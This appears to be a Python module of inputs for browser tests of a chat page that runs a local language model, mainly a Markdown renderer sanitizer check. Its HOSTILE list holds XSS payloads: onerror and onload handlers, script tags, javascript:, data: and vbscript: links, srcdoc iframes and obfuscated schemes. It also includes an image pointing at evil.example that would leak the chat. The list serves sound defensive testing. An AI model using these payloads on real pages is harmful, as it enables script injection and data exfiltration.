"""Inputs of the page tests: hostile Markdown/HTML, the elements a rendered reply may hold, a Markdown sample."""

from __future__ import annotations

# What a model could emit to attack the page. Each must render as text or harmless elements, run nothing, and
# fetch nothing (an image from another host would leak the conversation).
HOSTILE = [
    '<img src=x onerror="window.__pwned=\'img\'">',
    "<script>window.__pwned='script'</script>",
    "[click me](javascript:window.__pwned='link')",
    "[upper](JAVASCRIPT:window.__pwned='upper')",
    "[spaced]( javascript:window.__pwned='spaced')",
    "[entity](jav&#x61;script:window.__pwned='entity')",
    "[tab](java\tscript:window.__pwned='tab')",
    "[data](data:text/html,<script>window.__pwned='data'</script>)",
    "[vb](vbscript:msgbox(1))",
    '<a href="javascript:window.__pwned=\'a\'">raw link</a>',
    "<svg onload=\"window.__pwned='svg'\"><circle r=5></circle></svg>",
    "<iframe src=\"javascript:window.__pwned='iframe'\"></iframe>",
    "<iframe srcdoc=\"<script>parent.__pwned='srcdoc'</script>\"></iframe>",
    "```html\n<img src=x onerror=\"window.__pwned='fence'\">\n<script>window.__pwned='fence2'</script>\n```",
    "`<img src=x onerror=window.__pwned='code'>`",
    "<style>body { display: none }</style>",
    "![tracker](https://evil.example/track.png?chat=secret)",
    "![local](x.png)",
    "<https://ok.example/path> and <javascript:window.__pwned='auto'>",
    "**<b onmouseover=\"window.__pwned='b'\">bold</b>** and *<i>em</i>*",
    "| a | b |\n|---|---|\n| <img src=x onerror=\"window.__pwned='table'\"> | [x](javascript:alert(1)) |",
    "> <details open ontoggle=\"window.__pwned='details'\"><summary>s</summary></details>",
    "- item <video><source onerror=\"window.__pwned='video'\"></video>\n  - nested <object data=x></object>",
    '[quote](http://ok.example/" onclick="window.__pwned=\'attr\')',
    "<form action=javascript:alert(1)><button>go</button></form><input autofocus onfocus=\"window.__pwned='focus'\">",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<!-- comment --><![CDATA[ x ]]>&lt;img src=x onerror=alert(1)&gt;",
    "~~~\n" + "unclosed fence <img src=x onerror=\"window.__pwned='open'\">",
]

# The elements markdown.js may create (written out here, not imported: the test decides what is allowed).
ALLOWED_ELEMENTS = {"p", "br", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "hr", "pre", "code", "div",
                    "span", "button", "strong", "em", "del", "a", "table", "thead", "tbody", "tr", "th", "td"}

MARKDOWN_SAMPLE = """# Title

Some **bold** text with a [link](https://example.org/docs) and `inline`.

```python
def add(a, b):
    return a + b  # <b>not bold</b>

print(add(1, 2))
```

- one
- two with `code`

| a | b |
|---|:-:|
| 1 | 2 |

Done."""

# a long reply for the phone layout: prose, a wide code line (must scroll inside its block, not the page), a list
LONG_REPLY = MARKDOWN_SAMPLE + "\n\n```text\n" + "x" * 300 + "\n```\n\n" + "\n\n".join(
    f"Paragraph {i}: the quick brown fox jumps over the lazy dog." for i in range(30))


# ---- page-side scripts of the tests (%s: the import expression of markdown.js, see _browser.import_module) ----

# test_5: stream MARKDOWN_SAMPLE through StreamRenderer (3 characters at a time), compare with one render, copy
MD_STREAM_JS = """async (text) => {
    const md = %s;
    const whole = document.createElement('div');
    whole.appendChild(md.renderMarkdown(text));
    const box = document.createElement('div');
    box.className = 'msg assistant';
    const body = document.createElement('div');
    box.appendChild(body);
    document.getElementById('log').appendChild(box);
    const r = new md.StreamRenderer(body);
    const rebuilt = [];
    for (let i = 1; i <= text.length; i += 3) rebuilt.push(r.update(text.slice(0, i)));
    rebuilt.push(r.update(text));
    const code = body.querySelector('pre code');
    const out = {same: body.innerHTML === whole.innerHTML, tags: [...body.children].map((e) => e.tagName),
        code: code.textContent, font: getComputedStyle(code).fontFamily, lang: body.querySelector('.lang').textContent,
        strong: body.querySelector('strong').textContent, link: body.querySelector('a').href,
        items: [...body.querySelectorAll('li')].map((e) => e.textContent), maxRebuilt: rebuilt.at(-1),
        th: [...body.querySelectorAll('th')].map((e) => e.textContent)};
    body.querySelector('.copy').click();
    await new Promise((res) => setTimeout(res, 200));
    out.copied = await navigator.clipboard.readText();
    out.copyLabel = body.querySelector('.copy').textContent;
    box.remove();
    return out;
}"""

# test_hostile_markdown_runs_nothing: every case, one render and streamed, checked element by element
HOSTILE_JS = """async ([cases, allowed]) => {
    const md = %s;
    const host = document.createElement('div');
    document.body.appendChild(host);
    const problems = [];
    const check = (root, name) => {
        for (const e of root.querySelectorAll('*')) {
            const tag = e.tagName.toLowerCase();
            if (!allowed.includes(tag)) problems.push(`${name}: <${tag}>`);
            for (const a of e.attributes) {
                if (/^on/i.test(a.name) || ['src', 'style', 'srcdoc', 'formaction'].includes(a.name))
                    problems.push(`${name}: ${tag}[${a.name}]`);
            }
            if (tag === 'a' && !/^(https?|mailto):/.test(new URL(e.href).protocol)) problems.push(`${name}: ${e.href}`);
        }
    };
    const all = cases.join('\\n\\n');
    for (const [k, text] of [...cases, all].entries()) {
        const one = document.createElement('div');
        one.appendChild(md.renderMarkdown(text));
        host.appendChild(one);
        check(one, `case ${k}`);
        const streamed = document.createElement('div');
        const r = new md.StreamRenderer(streamed);
        for (let i = 1; i <= text.length; i += 5) r.update(text.slice(0, i));
        r.update(text);
        host.appendChild(streamed);
        check(streamed, `case ${k} streamed`);
    }
    await new Promise((res) => setTimeout(res, 500));
    return {problems, pwned: window.__pwned ?? null, text: host.textContent,
            links: [...host.querySelectorAll('a')].map((a) => a.href)};
}"""

# test_8_phone_layout: boxes, scroll containers, page scroll sizes
LAYOUT_JS = """() => {
    const box = (id) => { const b = document.getElementById(id).getBoundingClientRect();
                          return {top: b.top, bottom: b.bottom, left: b.left, right: b.right, h: b.height}; };
    const scrollers = [...document.querySelectorAll('*')].filter((e) => {
        const s = getComputedStyle(e);
        return ['auto', 'scroll'].includes(s.overflowY) && e.scrollHeight > e.clientHeight + 1 &&
               e.getClientRects().length;
    }).map((e) => e.id || e.className || e.tagName);
    const se = document.scrollingElement;
    return {prompt: box('prompt'), send: box('send'), chip: box('chip'),
            setupHidden: document.getElementById('setup').hidden,
            scrollers, pageScrollW: se.scrollWidth, pageScrollH: se.scrollHeight, innerW: innerWidth,
            innerH: innerHeight, bodyW: document.body.scrollWidth,
            chipOneLine: getComputedStyle(document.getElementById('chip')).whiteSpace};
}"""

# test_corrupted_cached_shard_is_refetched: flip one byte of every cached shard (same size, wrong sha256)
CORRUPT_SHARDS_JS = """async () => {
    const c = await caches.open('llama3-webgpu-shards-v1');
    const keys = await c.keys();
    for (const k of keys) {
        const buf = new Uint8Array(await (await c.match(k)).arrayBuffer());
        buf[1000] ^= 0xff;                      // flip one byte: same size, wrong sha256
        await c.put(k, new Response(buf));
    }
    return keys.length;
}"""

# test_stop_mid_generation_api: interrupt() after 3 tokens; a queued request aborted before it starts
STOP_API_JS = """async () => {
    const e = window.__app.engine;
    let n = 0;
    const r = await e.completeIds({prompt_ids: %s, max_tokens: 200, temperature: 0,
                                   onToken: () => { if (++n === 3) e.interrupt(); }});
    const ctl = new AbortController();
    const first = e.completeIds({prompt_ids: [128000, 9906], max_tokens: 2, temperature: 0});
    const queued = e.chat.completions.create({messages: [{role: 'user', content: 'Hi'}], stream: true,
                                              max_tokens: 50, signal: ctl.signal});
    ctl.abort();
    const chunks = [];
    for await (const c of await queued) chunks.push(c.choices[0]);
    await first;
    return {...r.stats, n: r.ids.length, queued: chunks};
}"""

# test_3: every text the last reply bubble shows, in order
WATCH_REPLY_JS = """() => {
    window.__seen = [];
    window.__observer = new MutationObserver(() => {
        const a = document.querySelectorAll('#log .msg.assistant');
        if (a.length) window.__seen.push(a[a.length - 1].querySelector('.body').textContent);
    });
    window.__observer.observe(document.getElementById('log'),
                              {subtree: true, childList: true, characterData: true});
}"""

# test_7: a saved chat holding a Markdown reply, as a finished reply leaves it, made the current one
SAVE_MD_CHAT_JS = """([key, reply]) => {
    const doc = JSON.parse(localStorage.getItem(key));
    doc.chats.push({id: 'md', title: '', updated: Date.now() + 1000, messages: [
        {role: 'user', content: 'Show me some code'},
        {role: 'assistant', content: reply, meta: {finish: 'stop', prompt_tokens: 12, completion_tokens: 90,
                                                    ttft_s: 0.5, decode_tokens_per_s: 2.5}}]});
    doc.currentId = 'md';
    localStorage.setItem(key, JSON.stringify(doc));
}"""

# test_9: count the changes of every live region
COUNT_SPOKEN_JS = """() => {
    window.__spoken = 0;
    const live = document.querySelectorAll('[aria-live], [role=status], [role=alert], [role=log]');
    const o = new MutationObserver((ms) => { window.__spoken += ms.length; });
    for (const e of live) o.observe(e, {subtree: true, childList: true, characterData: true});
}"""

# test_6_delete: how many shards of tiny-copy are still in the shard cache
SHARDS_LEFT_JS = """async () => {
    const m = await (await fetch('./models/tiny-copy/manifest.json')).json();
    const c = await caches.open('llama3-webgpu-shards-v1');
    const hits = await Promise.all(m.shards.map(async (s) => !!(await c.match(`./__shards__/${s.sha256}`))));
    return hits.filter(Boolean).length;
}"""
